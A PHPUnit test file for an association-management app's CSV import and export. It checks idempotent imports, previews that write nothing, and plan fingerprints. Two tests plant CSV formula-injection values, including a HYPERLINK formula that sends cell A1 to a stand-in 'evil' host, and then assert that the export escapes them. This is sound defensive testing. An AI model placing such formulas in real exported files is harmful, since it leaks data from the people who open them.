<?php

declare(strict_types=1);

// SPDX-FileCopyrightText: 2026 Verband contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

namespace OCA\Verband\Tests\Gliederung\Csv;

use OCA\Verband\Gliederung\Access;
use OCA\Verband\Gliederung\Csv\CsvImport;
use OCA\Verband\Gliederung\Csv\CsvTree;
use OCA\Verband\Gliederung\Gliederung;
use OCA\Verband\Gliederung\GliederungMapper;
use OCA\Verband\Gliederung\Office;
use OCA\Verband\Gliederung\OfficeMapper;
use OCA\Verband\Gliederung\OfficeRole;
use OCA\Verband\Tests\Gliederung\AssociationTestCase;

final class CsvImportTest extends AssociationTestCase {
	public function testAFileIsAppliedOnceAndTheSecondTimeChangesNothing(): void {
		$file = "Kürzel;Art;Name;Gehört zu;Vorsitz\nneu-kind;team;AK Neu;neu;\nneu;unterbezirk;UB Neu;c3;Eva|Adam\nc21;unterbezirk;Name 21;c2;\n";

		self::assertSame(['added' => 2, 'changed' => 0, 'left' => 1], $this->apply($file));
		self::assertSame(['added' => 0, 'changed' => 0, 'left' => 3], $this->apply($file));

		$values = $this->get(CsvTree::class)->values();
		self::assertSame(['neu', 'Adam | Eva'], [$values['neu-kind']['parent'], $values['neu']['chairs']]);
		self::assertSame('c3', $values['neu']['parent']);
	}

	public function testAPreviewWritesNothing(): void {
		$before = $this->get(CsvTree::class)->values();

		$plan = $this->get(CsvImport::class)->preview("code;name\nc21;Anders\n");

		self::assertSame(['change'], array_column($plan['changes'], 'action'));
		self::assertSame(['UTF-8', ';', []], [$plan['encoding'], $plan['separator'], $plan['errors']]);
		self::assertSame($before, $this->get(CsvTree::class)->values());
	}

	public function testWithAnyErrorNothingIsWritten(): void {
		$file = "code;name;color\nc21;Anders;#123456\nc22;Auch;rot\n";
		$plan = $this->get(CsvImport::class)->preview($file);

		$this->assertRefused(409, 'plan-changed (plan)', fn () => $this->get(CsvImport::class)->apply($file, (string)$plan['plan']));

		self::assertSame('Name 21', $this->get(GliederungMapper::class)->find(21)?->getName());
	}

	public function testOnlyWhatWasLookedAtIsApplied(): void {
		$import = $this->get(CsvImport::class);
		$file = "code;name\nc21;Anders\n";
		$plan = (string)$import->preview($file)['plan'];
		$refused = fn (string $bytes, string $fingerprint) => $this->assertRefused(409, 'plan-changed (plan)', static fn () => $import->apply($bytes, $fingerprint));

		$refused("code;name\nc21;Ganz anders\n", $plan);
		$refused($file, '');
		$this->office('anna', 22, OfficeRole::Chair);
		$refused($file, $plan);

		self::assertSame('Name 21', $this->get(GliederungMapper::class)->find(21)?->getName());
	}

	public function testExportAndImportOfWhatWasExportedIsIdentity(): void {
		$row = $this->get(GliederungMapper::class)->find(21);
		self::assertInstanceOf(Gliederung::class, $row);
		$row->setName('=HYPERLINK("http://evil?"&A1)');
		$row->setPlace("'+1; \"quoted\", and more");
		$row->setStop('-5 Grad | @Steintor');
		$row->setShortName('"=1');
		$this->get(GliederungMapper::class)->update($row);
		$this->office('=1+1', 21, OfficeRole::Chair);
		$this->office('Anna|Ben', 21, OfficeRole::Chair);
		$before = $this->get(CsvTree::class)->values();
		$export = $this->get(CsvTree::class)->export();

		$plan = $this->get(CsvImport::class)->preview($export);

		self::assertSame([], $plan['errors']);
		self::assertSame(['leave'], array_values(array_unique(array_column($plan['changes'], 'action'))));
		self::assertSame(['added' => 0, 'changed' => 0, 'left' => 8], $this->apply($export));
		self::assertSame($before, $this->get(CsvTree::class)->values());
	}

	public function testC2NoCellOfAnExportBeginsLikeAFormula(): void {
		foreach (['=1', '+1', '-1', '@SUM(1)', '"=1'] as $i => $evil) {
			$row = $this->get(GliederungMapper::class)->find([21, 22, 31, 9, 29][$i]);
			$row?->setName($evil);
			$row?->setPlace($evil);
			$this->get(GliederungMapper::class)->update($row ?? new Gliederung());
		}
		$this->get(Access::class)->forget();

		$export = $this->get(CsvTree::class)->export();

		self::assertStringStartsWith("\xef\xbb\xbf\"Kürzel\";\"Art\";\"Name\";", $export);
		foreach (explode("\r\n", trim(substr($export, 3))) as $line) {
			foreach (str_getcsv($line, ';', '"', '') as $cell) {
				self::assertDoesNotMatchRegularExpression('/^["]*[=+\-@\t\r]/', (string)$cell);
			}
		}
		self::assertSame(10, substr_count($export, "\"'"));
	}

	public function testChairsWhoAreNoLongerNamedWereChairsUntilYesterday(): void {
		$this->office('anna', 21, OfficeRole::Chair);
		$this->office('ben', 21, OfficeRole::Chair);
		$this->office('cem', 21, OfficeRole::Deputy);
		$file = "code;chairs\nc21;ben | Dora\n";

		self::assertSame(['added' => 0, 'changed' => 1, 'left' => 0], $this->apply($file));

		$held = array_map(
			static fn (Office $office): array => [$office->getRole(), $office->getFromDate(), $office->getUntilDate()],
			$this->get(OfficeMapper::class)->ofGliederung(21),
		);
		self::assertEqualsCanonicalizing([
			['chair', '2026-01-01', '2026-05-31'], ['chair', '2026-01-01', null], ['deputy', '2026-01-01', null], ['chair', '2026-06-01', null],
		], $held);
		self::assertSame(['ben'], $this->members('verband-chairs'));
		self::assertSame(['added' => 0, 'changed' => 0, 'left' => 1], $this->apply($file));
	}

	public function testAnEmptyTreeIsFilled(): void {
		$this->db->getQueryBuilder()->delete('verband_gliederungen')->executeStatement();
		$this->get(Access::class)->forget();

		$result = $this->apply("code,kind,name,parent\nub,unterbezirk,UB,bez\nbez,bezirk,Bezirk,12\n12,landesverband,LV,\n");

		self::assertSame(3, $result['added']);
		self::assertSame(['12', 'bez', 'ub'], array_map(strval(...), array_keys($this->get(CsvTree::class)->values())));
	}

	public function testAParentCanBeMovedBelowWhatIsNew(): void {
		self::assertSame(['added' => 1, 'changed' => 1, 'left' => 0], $this->apply("code;kind;name;parent\nc31;unterbezirk;Name 31;neu\nneu;bezirk;Neu;c1\n"));
		self::assertSame('neu', $this->get(CsvTree::class)->values()['c31']['parent']);
	}

	/** @return array{added: int, changed: int, left: int} */
	private function apply(string $file): array {
		$import = $this->get(CsvImport::class);
		$plan = $import->preview($file);
		self::assertSame([], $plan['errors']);
		return $import->apply($file, (string)$plan['plan']);
	}
}
